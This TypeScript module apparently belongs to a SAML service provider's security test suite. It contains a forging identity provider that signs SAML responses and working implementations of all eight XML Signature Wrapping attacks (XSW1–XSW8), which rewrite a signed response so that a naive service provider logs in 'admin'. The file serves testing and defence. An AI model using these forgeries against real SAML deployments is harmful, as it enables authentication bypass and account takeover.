import { randomBytes } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import { makeKeyPair } from './saml-fixtures';

const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

export const newId = () => `_${randomBytes(16).toString('hex')}`;
const iso = (ms: number) => new Date(ms).toISOString().replace(/\.\d+Z$/, 'Z');

export interface ResponseFields {
  inResponseTo: string;
  acs: string;
  audience: string;
  issuer: string;
  nameId: string;
  attributes: Record<string, string[]>;
  notBefore?: number;
  notOnOrAfter?: number;
  responseId?: string;
  assertionId?: string;
}

/** A stand-in IdP the SP trusts (its certificate in the metadata), to craft valid and evil messages. */
export class ForgingIdp {
  readonly entityId = 'https://idp.forge.test/idp';
  readonly key: string;
  readonly cert: string;
  readonly metadataFile: string;

  /** `rolloverCerts`: other signing certificates listed before its own (an IdP mid key rollover). */
  constructor(dir: string, rolloverCerts = 0) {
    const pair = makeKeyPair(dir, 'forge-idp');
    const others = Array.from({ length: rolloverCerts }, (_, i) => makeKeyPair(dir, `forge-idp-old-${i}`).certBody);
    this.key = readFileSync(pair.key, 'utf8');
    this.cert = readFileSync(pair.cert, 'utf8');
    this.metadataFile = join(dir, 'forge-idp-metadata.xml');
    writeFileSync(
      this.metadataFile,
      `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="${DS}" entityID="${this.entityId}">
  <md:IDPSSODescriptor protocolSupportEnumeration="${SAMLP}">
    <md:Extensions><shibmd:Scope xmlns:shibmd="urn:mace:shibboleth:metadata:1.0" regexp="false">infn.it</shibmd:Scope></md:Extensions>
${[...others, pair.certBody].map((c) => `    <md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${c}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`).join('\n')}
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://idp.forge.test/sso"/>
  </md:IDPSSODescriptor>
</md:EntityDescriptor>`,
    );
  }

  /** The unsigned Response XML, as an IdP would build it. */
  response(f: ResponseFields): string {
    const now = Date.now();
    const notBefore = f.notBefore ?? now - 60_000;
    const notOnOrAfter = f.notOnOrAfter ?? now + 300_000;
    const attrs = Object.entries(f.attributes)
      .map(
        ([name, values]) =>
          `<saml:Attribute Name="${name}" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri">${values.map((v) => `<saml:AttributeValue xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xs:string">${v}</saml:AttributeValue>`).join('')}</saml:Attribute>`,
      )
      .join('');
    return (
      `<samlp:Response xmlns:samlp="${SAMLP}" xmlns:saml="${SAML}" ID="${f.responseId ?? newId()}" Version="2.0" IssueInstant="${iso(now)}" Destination="${f.acs}" InResponseTo="${f.inResponseTo}">` +
      `<saml:Issuer>${f.issuer}</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>` +
      `<saml:Assertion ID="${f.assertionId ?? newId()}" Version="2.0" IssueInstant="${iso(now)}"><saml:Issuer>${f.issuer}</saml:Issuer>` +
      `<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:transient">${f.nameId}</saml:NameID>` +
      `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData NotOnOrAfter="${iso(notOnOrAfter)}" Recipient="${f.acs}" InResponseTo="${f.inResponseTo}"/></saml:SubjectConfirmation></saml:Subject>` +
      `<saml:Conditions NotBefore="${iso(notBefore)}" NotOnOrAfter="${iso(notOnOrAfter)}"><saml:AudienceRestriction><saml:Audience>${f.audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions>` +
      `<saml:AuthnStatement AuthnInstant="${iso(now)}" SessionIndex="${newId()}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:Password</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>` +
      `<saml:AttributeStatement>${attrs}</saml:AttributeStatement></saml:Assertion></samlp:Response>`
    );
  }

  /** Signs the Assertion, then (optionally) the Response, with this IdP's key (or another's). */
  sign(xml: string, { assertion = true, response = true, key = this.key, cert = this.cert } = {}): string {
    let out = xml;
    if (assertion) out = signElement(out, 'Assertion', key, cert);
    if (response) out = signElement(out, 'Response', key, cert);
    return out;
  }
}

function signElement(xml: string, localName: 'Assertion' | 'Response', key: string, cert: string): string {
  const sig = new SignedXml({
    privateKey: key,
    publicCert: cert,
    signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  sig.addReference({
    xpath: `/*[local-name(.)='Response']${localName === 'Assertion' ? "/*[local-name(.)='Assertion']" : ''}`,
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'],
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
  });
  const issuer =
    localName === 'Assertion'
      ? "/*[local-name(.)='Response']/*[local-name(.)='Assertion']/*[local-name(.)='Issuer']"
      : "/*[local-name(.)='Response']/*[local-name(.)='Issuer']";
  sig.computeSignature(xml, { location: { reference: issuer, action: 'after' } });
  return sig.getSignedXml();
}

/** The AuthnRequest ID inside a /saml/login redirect (HTTP-Redirect binding: deflated base64). */
export function requestIdOf(location: string): string {
  const req = new URL(location).searchParams.get('SAMLRequest')!;
  const xml = inflateRawSync(Buffer.from(req, 'base64')).toString();
  return /ID="([^"]+)"/.exec(xml)![1];
}

// ---- DOM helpers for the attacks ----------------------------------------------------------------
export const parseXml = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
export const serialize = (doc: Node) => new XMLSerializer().serializeToString(doc);
export const first = (doc: Document | Element, ns: string, name: string) => doc.getElementsByTagNameNS(ns, name)[0] as Element;
export const NS = { SAMLP, SAML, DS };

/** Replace every occurrence of a user in an element's attribute values (the "evil" assertion). */
export function setUser(el: Element, user: string) {
  for (const v of Array.from(el.getElementsByTagNameNS(SAML, 'AttributeValue'))) v.textContent = user;
  const nameId = el.getElementsByTagNameNS(SAML, 'NameID')[0];
  if (nameId) nameId.textContent = user;
}

const stripSignatures = (el: Element) => {
  for (const sig of Array.from(el.getElementsByTagNameNS(DS, 'Signature'))) sig.parentNode!.removeChild(sig);
};

/** An unsigned copy of an element claiming the evil user (with a new ID when asked). */
function evilCopy(el: Element, evil: string, newIdToo: boolean): Element {
  const copy = el.cloneNode(true) as Element;
  if (newIdToo) copy.setAttribute('ID', newId());
  stripSignatures(copy);
  setUser(copy, evil);
  return copy;
}

/** An unsigned copy, user unchanged (the original content an attacker tucks away). */
function unsignedCopy(el: Element): Element {
  const copy = el.cloneNode(true) as Element;
  stripSignatures(copy);
  return copy;
}

/** XSW1/2: an evil Response (new ID) keeping only the Response signature element. */
function evilResponse(original: Element, evil: string): { clone: Element; signature: Element } {
  const clone = original.cloneNode(true) as Element;
  clone.setAttribute('ID', newId());
  const signature = Array.from(clone.childNodes).find((n) => (n as Element).localName === 'Signature') as Element;
  for (const s of Array.from(clone.getElementsByTagNameNS(DS, 'Signature'))) if (s !== signature) s.parentNode!.removeChild(s);
  setUser(first(clone, SAML, 'Assertion'), evil);
  return { clone, signature };
}

/**
 * The eight XML Signature Wrapping classes of Somorovsky et al. (2012), as SAMLRaider names them,
 * applied to a Response whose Response and Assertion are both signed. Each returns a message in
 * which the signed content is the original (victim: mallory) and the content a naive SP would
 * read is an evil copy (admin).
 */
export const XSW: Record<string, (signedXml: string, evilUser: string) => string> = {
  // XSW1: evil Response, the original signed Response moved into the evil one's Signature.
  XSW1(xml, evil) {
    const original = parseXml(xml).documentElement;
    const { clone, signature } = evilResponse(original, evil);
    signature.appendChild(original.cloneNode(true));
    return serialize(clone);
  },
  // XSW2: like XSW1, but the original signed Response is a sibling before the Signature (detached).
  XSW2(xml, evil) {
    const original = parseXml(xml).documentElement;
    const { clone, signature } = evilResponse(original, evil);
    clone.insertBefore(original.cloneNode(true), signature);
    return serialize(clone);
  },
  // XSW3: evil Assertion (new ID, no signature) inserted before the original signed Assertion.
  XSW3(xml, evil) {
    const doc = parseXml(xml);
    const assertion = first(doc, SAML, 'Assertion');
    assertion.parentNode!.insertBefore(evilCopy(assertion, evil, true), assertion);
    return serialize(doc);
  },
  // XSW4: the original signed Assertion moved inside the evil Assertion.
  XSW4(xml, evil) {
    const doc = parseXml(xml);
    const assertion = first(doc, SAML, 'Assertion');
    const evilA = evilCopy(assertion, evil, true);
    assertion.parentNode!.replaceChild(evilA, assertion);
    evilA.appendChild(assertion);
    return serialize(doc);
  },
  // XSW5: the signed Assertion altered to the evil user (signature kept), the unaltered
  // original appended unsigned to the Response.
  XSW5(xml, evil) {
    const doc = parseXml(xml);
    const assertion = first(doc, SAML, 'Assertion');
    const original = unsignedCopy(assertion);
    setUser(assertion, evil);
    assertion.parentNode!.appendChild(original);
    return serialize(doc);
  },
  // XSW6: evil Assertion with the original signature, the original Assertion inside that Signature.
  XSW6(xml, evil) {
    const doc = parseXml(xml);
    const assertion = first(doc, SAML, 'Assertion');
    const original = unsignedCopy(assertion);
    setUser(assertion, evil);
    first(assertion, DS, 'Signature').appendChild(original);
    return serialize(doc);
  },
  // XSW7: the original signed Assertion hidden in an Extensions element, an evil one beside it.
  XSW7(xml, evil) {
    const doc = parseXml(xml);
    const assertion = first(doc, SAML, 'Assertion');
    const ext = doc.createElementNS(SAMLP, 'samlp:Extensions');
    assertion.parentNode!.insertBefore(ext, assertion);
    const evilA = evilCopy(assertion, evil, false);
    ext.appendChild(assertion);
    ext.parentNode!.insertBefore(evilA, ext.nextSibling);
    return serialize(doc);
  },
  // XSW8: evil Assertion whose Signature holds an Object with the original Assertion.
  XSW8(xml, evil) {
    const doc = parseXml(xml);
    const assertion = first(doc, SAML, 'Assertion');
    const original = unsignedCopy(assertion);
    setUser(assertion, evil);
    const object = doc.createElementNS(DS, 'ds:Object');
    object.appendChild(original);
    first(assertion, DS, 'Signature').appendChild(object);
    return serialize(doc);
  },
};
